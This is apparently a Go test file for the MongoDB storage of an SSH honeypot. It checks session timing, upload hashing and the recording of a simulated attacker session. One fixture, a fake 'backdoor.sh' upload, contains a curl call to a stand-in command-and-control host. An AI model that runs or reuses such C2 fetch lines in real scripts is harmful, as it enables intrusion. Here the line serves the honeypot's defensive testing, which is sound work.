package mongo

import (
	"bytes"
	"context"
	"encoding/base64"
	"os"
	"testing"
	"time"

	"go.mongodb.org/mongo-driver/bson"
	"go.mongodb.org/mongo-driver/bson/primitive"

	"github.com/honeyshell/honeyshell/internal/logger"
	"github.com/honeyshell/honeyshell/internal/storage"
)

func TestSessionDuration(t *testing.T) {
	t.Parallel()
	base := time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)
	tests := []struct {
		name  string
		start time.Time
		end   time.Time
		want  int
	}{
		{"whole seconds", base, base.Add(61 * time.Second), 61},
		{"fraction floors down", base, base.Add(2900 * time.Millisecond), 2},
		{"just under a second", base, base.Add(999 * time.Millisecond), 0},
		{"instant", base, base, 0},
		{"skewed clock clamps", base, base.Add(-3700 * time.Millisecond), 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := sessionDuration(tt.start, tt.end); got != tt.want {
				t.Errorf("sessionDuration(%v, %v) = %d, want %d", tt.start, tt.end, got, tt.want)
			}
		})
	}
}

func TestUploadDigest(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		content  []byte
		wantHash string
		wantSize int
	}{
		{
			name:     "known vector",
			content:  []byte("hello world"),
			wantHash: "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9",
			wantSize: 11,
		},
		{
			name:     "nist abc",
			content:  []byte("abc"),
			wantHash: "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
			wantSize: 3,
		},
		{
			name:     "empty",
			content:  nil,
			wantHash: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
			wantSize: 0,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hash, size := uploadDigest(tt.content)
			if hash != tt.wantHash {
				t.Errorf("hash = %s, want %s", hash, tt.wantHash)
			}
			if size != tt.wantSize {
				t.Errorf("size = %d, want %d", size, tt.wantSize)
			}
		})
	}
}

func TestStoreRoundTrip(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping integration test in short mode")
	}

	uri := os.Getenv("MONGO_URI")
	if uri == "" {
		uri = "mongodb://localhost:27017"
	}
	const dbName = "honeyshell_store_test"

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()

	st, err := Connect(ctx, uri, dbName, logger.NewNop())
	if err != nil {
		t.Skip("mongodb client not available:", err)
	}
	pingCtx, pingCancel := context.WithTimeout(ctx, 5*time.Second)
	defer pingCancel()
	if err := st.client.Ping(pingCtx, nil); err != nil {
		t.Skip("mongodb not available:", err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := st.client.Database(dbName).Drop(ctx); err != nil {
			t.Logf("drop test database: %v", err)
		}
		if err := st.Close(ctx); err != nil {
			t.Errorf("close store: %v", err)
		}
	})

	id, err := st.CreateSession(ctx, storage.Credentials{
		SourceIP:   "203.0.113.7",
		SourcePort: 51234,
		Username:   "root",
		Secret:     "hunter2",
		Method:     storage.AuthPassword,
	})
	if err != nil {
		t.Fatalf("create session: %v", err)
	}
	if id == "" {
		t.Fatal("empty session id")
	}
	if err := st.SetContainer(ctx, id, "cafebabe12"); err != nil {
		t.Fatalf("set container: %v", err)
	}

	st.RecordKeystroke(id, storage.DirectionOutput, []byte("uid=0(root)\n"))
	content := []byte("#!/bin/bash\necho 'This is a captured malware sample'\ncurl http://evil.example.com/c2\n")
	st.RecordUpload(id, "backdoor.sh", content)

	// The queue is a single FIFO worker, so an awaited no-op flushes the
	// fire-and-forget records posted above.
	if err := st.await(ctx, func(context.Context) error { return nil }); err != nil {
		t.Fatalf("flush queue: %v", err)
	}

	if err := st.EndSession(ctx, id); err != nil {
		t.Fatalf("end session: %v", err)
	}
	if err := st.EndSession(ctx, "no-such-session"); err != nil {
		t.Errorf("end session on unknown id: %v", err)
	}

	var sess storage.Session
	if err := st.sessions.FindOne(ctx, bson.M{"session_id": id}).Decode(&sess); err != nil {
		t.Fatalf("load session: %v", err)
	}
	if sess.Username != "root" || sess.Password != "hunter2" || sess.SourceIP != "203.0.113.7" {
		t.Errorf("session fields = %q/%q/%q", sess.Username, sess.Password, sess.SourceIP)
	}
	if sess.Status != storage.StatusCompleted {
		t.Errorf("status = %q, want %q", sess.Status, storage.StatusCompleted)
	}
	if sess.ContainerID == nil || *sess.ContainerID != "cafebabe12" {
		t.Error("container id not recorded")
	}
	if sess.EndedAt == nil || sess.DurationSeconds == nil {
		t.Fatal("session not finalized")
	}
	if sess.EndedAt.Before(sess.StartedAt) {
		t.Errorf("ended_at %v before started_at %v", sess.EndedAt, sess.StartedAt)
	}
	if want := sessionDuration(sess.StartedAt, *sess.EndedAt); *sess.DurationSeconds != want {
		t.Errorf("duration_seconds = %d, want %d", *sess.DurationSeconds, want)
	}

	var ks struct {
		Data      string `bson:"data"`
		Direction string `bson:"direction"`
	}
	if err := st.keystrokes.FindOne(ctx, bson.M{"session_id": id}).Decode(&ks); err != nil {
		t.Fatalf("load keystroke: %v", err)
	}
	decoded, err := base64.StdEncoding.DecodeString(ks.Data)
	if err != nil {
		t.Fatalf("keystroke data is not base64: %v", err)
	}
	if string(decoded) != "uid=0(root)\n" {
		t.Errorf("keystroke payload = %q", decoded)
	}
	if ks.Direction != string(storage.DirectionOutput) {
		t.Errorf("direction = %q", ks.Direction)
	}

	var up struct {
		Filename    string             `bson:"filename"`
		SizeBytes   int                `bson:"size_bytes"`
		ContentHash string             `bson:"content_hash"`
		FileRef     primitive.ObjectID `bson:"file_ref"`
	}
	if err := st.uploads.FindOne(ctx, bson.M{"session_id": id}).Decode(&up); err != nil {
		t.Fatalf("load upload: %v", err)
	}
	wantHash, wantSize := uploadDigest(content)
	if up.Filename != "backdoor.sh" {
		t.Errorf("filename = %q", up.Filename)
	}
	if up.ContentHash != wantHash {
		t.Errorf("content_hash = %s, want %s", up.ContentHash, wantHash)
	}
	if up.SizeBytes != wantSize {
		t.Errorf("size_bytes = %d, want %d", up.SizeBytes, wantSize)
	}
	if up.FileRef.IsZero() {
		t.Fatal("file_ref not set")
	}
	var blob bytes.Buffer
	if _, err := st.bucket.DownloadToStream(up.FileRef, &blob); err != nil {
		t.Fatalf("download blob: %v", err)
	}
	if !bytes.Equal(blob.Bytes(), content) {
		t.Error("stored blob differs from upload content")
	}
}
